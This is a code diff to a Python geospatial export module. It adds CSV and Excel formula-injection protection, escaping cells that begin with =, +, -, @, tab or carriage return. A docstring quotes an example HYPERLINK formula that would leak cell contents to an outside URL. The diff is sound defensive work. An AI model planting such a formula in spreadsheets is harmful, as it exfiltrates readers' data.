@@ -89,6 +89,10 @@ KIND_LABELS = {
 }  # fmt: skip
 EXCEL_CELL_LIMIT = 32_767
 """Characters Excel holds in one cell; a longer CSV value breaks its rows."""
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""First characters that make a spreadsheet read a cell as a formula (OWASP, "CSV
+Injection"): document text is untrusted, and an uploaded clause such as
+``=HYPERLINK("http://…?leak="&A2,"x")`` would otherwise run in the reader's Excel."""
 DBF_TEXT_BYTES = 254
 SHAPEFILE_PARTS = (".shp", ".shx", ".dbf", ".prj", ".cpg")
 FIELD_NAMES = {
@@ -282,13 +286,41 @@ def write_gpkg(job: Job, target: Path) -> list[Path]:
     return [target]
 
 
+def formula_like(value: object) -> bool:
+    """Whether ``value`` is text a spreadsheet could take for a formula."""
+    return isinstance(value, str) and value.startswith(FORMULA_STARTS)
+
+
+def csv_safe(table: pd.DataFrame) -> pd.DataFrame:
+    """``table`` with every text cell (and header) that a spreadsheet could take for a
+    formula prefixed with a single quote, as OWASP advises; numbers stay numbers."""
+    out = table.copy()
+    for column in out.columns:
+        if not pd.api.types.is_numeric_dtype(out[column]):
+            out[column] = out[column].map(lambda v: f"'{v}" if formula_like(v) else v)
+    out.columns = [f"'{c}" if formula_like(c) else c for c in out.columns]
+    return out
+
+
+def xlsx_safe(sheet: Worksheet) -> None:
+    """Store every text cell of ``sheet`` that Excel could take for a formula as text,
+    shown as written: a string cell with ``quotePrefix``, what Excel itself records when
+    one types a leading single quote (openpyxl would otherwise write ``=…`` as a
+    formula)."""
+    for row in sheet.iter_rows():
+        for cell in row:
+            if formula_like(cell.value):
+                cell.data_type = "s"
+                cell.quotePrefix = True
+
+
 def write_csv(job: Job, target: Path) -> list[Path]:
     """Excel-ready CSV and its provenance sidecar ``FILE.csv.txt``."""
     table = with_xy(job.frame, job.crs)
     wkt = reproject(job.frame, job.crs).geometry.to_wkt(rounding_precision=decimals(job.crs))
     too_long = wkt.str.len() > EXCEL_CELL_LIMIT
     table["wkt"] = wkt.where(~too_long, "")
-    table.to_csv(target, index=False, encoding="utf-8-sig", lineterminator="\r\n")
+    csv_safe(table).to_csv(target, index=False, encoding="utf-8-sig", lineterminator="\r\n")
     notes = [
         "", "columns: lon, lat = WGS-84 (EPSG:4326) degrees; x, y = the same point in the "
         "CRS named in column crs; wkt = the geometry (point or extent) in that CRS.",
@@ -372,6 +404,7 @@ def _fill(sheet: Worksheet, table: pd.DataFrame, freeze: str = "A2") -> None:
     sheet.append(list(table.columns))
     for row in table.astype(object).itertuples(index=False):
         sheet.append([None if pd.isna(v) else v for v in row])
+    xlsx_safe(sheet)
     for cell in sheet[1]:
         cell.font = Font(bold=True)
     sheet.freeze_panes = freeze
